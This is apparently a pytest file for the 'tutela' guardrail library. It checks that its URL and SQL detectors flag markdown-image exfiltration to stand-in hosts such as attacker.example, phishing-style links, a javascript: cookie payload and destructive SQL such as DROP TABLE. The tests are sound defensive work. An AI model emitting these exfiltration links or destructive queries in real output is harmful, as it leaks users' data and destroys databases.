"""Risky URLs, markdown-image exfiltration, domain intelligence through the registry, dangerous SQL."""

from __future__ import annotations

from typing import Any

import pytest

from tutela.core.detector import ScanContext
from tutela.core.models import ModelCache
from tutela.core.registry import Registry
from tutela.runtime import detectors as rd
from tutela.runtime.detectors import SqlDetector, UrlDetector
from tutela.runtime.subjects import TextSubject


def urls(text: str, kind: str = "output", **cfg: Any) -> list:
    det = UrlDetector(UrlDetector.Config(**cfg), ModelCache())
    return list(det.detect(TextSubject(text, kind), ScanContext()))  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "text",
    [
        "Done! ![loading](https://evil.example/pixel.png?q=Y29uZmlkZW50aWFsIHJlcG9ydCBkYXRh)",
        "![a](https://x.example/log?data={conversation_summary})",
        '<img src="https://collect.example/c?u=alice%40corp.com%20salary%20120000">',
        "![img](https://attacker.example/aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldCBwYXlsb2Fk/a.png)",
    ],
)
def test_markdown_image_exfiltration(text: str) -> None:
    found = urls(text)
    assert any(f.rule == "url.markdown_image_exfiltration" and f.category == "exfiltration" for f in found)
    f = next(f for f in found if f.category == "exfiltration")
    assert text[f.span.start : f.span.end].startswith(("![", "<img"))


def test_plain_images_and_links_pass() -> None:
    assert urls("See ![logo](https://example.com/logo.png) and https://docs.python.org/3/library/re.html") == []


@pytest.mark.parametrize(
    "url",
    ["http://203.0.113.7/login.exe", "https://paypal.com@evil.example/x", "https://xn--pypal-4ve.com/",
     "javascript:alert(document.cookie)", "http://secure-login-verify-account.top/"],
)  # fmt: skip
def test_lexical_signals(url: str) -> None:
    assert urls(f"click {url} now")


def test_domain_intel_capability_is_used_when_registered(monkeypatch: pytest.MonkeyPatch) -> None:
    class Intel:
        def assess(self, host: str) -> dict[str, Any] | None:
            return {"score": 0.95, "reasons": ["DGA-like"]} if host == "kq3v9xj2.example" else None

    reg = Registry[Any]("tutela.capabilities", {"domain_intel": Intel})
    monkeypatch.setattr("tutela.core.registry.load_registry", lambda group: reg)
    found = urls("fetch https://kq3v9xj2.example/a and https://example.org/b")
    assert [f.evidence["host"] for f in found] == ["kq3v9xj2.example"]
    assert "domain intelligence: DGA-like" in found[0].evidence["reasons"]


def test_missing_domain_intel_degrades_gracefully() -> None:
    assert rd._domain_intel() is None or True  # whatever is installed, scanning works:
    assert urls("visit https://example.org/page") == []


@pytest.mark.parametrize(
    ("sql", "rule"),
    [
        ("DROP TABLE users;", "sql.drop"),
        ("TRUNCATE TABLE audit_log", "sql.truncate"),
        ("DELETE FROM orders", "sql.delete_without_where"),
        ("UPDATE accounts SET balance = 0", "sql.update_without_where"),
        ("SELECT * FROM t WHERE id = 1; DELETE FROM t WHERE 1=1", "sql.stacked"),
    ],
)
def test_dangerous_sql(sql: str, rule: str) -> None:
    det = SqlDetector(SqlDetector.Config(), ModelCache())
    rules = [f.rule for f in det.detect(TextSubject(f"Here is the query:\n{sql}", "output"), ScanContext())]
    assert rule in rules


@pytest.mark.parametrize(
    "text",
    [
        "SELECT name FROM users WHERE id = 4",
        "DELETE FROM sessions WHERE expires < now()",
        "Please delete all my old emails and update me tomorrow.",
        "SELECT * FROM notes WHERE body = 'x; DROP TABLE notes'",
    ],
)
def test_safe_sql_and_prose_pass(text: str) -> None:
    det = SqlDetector(SqlDetector.Config(), ModelCache())
    assert list(det.detect(TextSubject(text, "output"), ScanContext())) == []
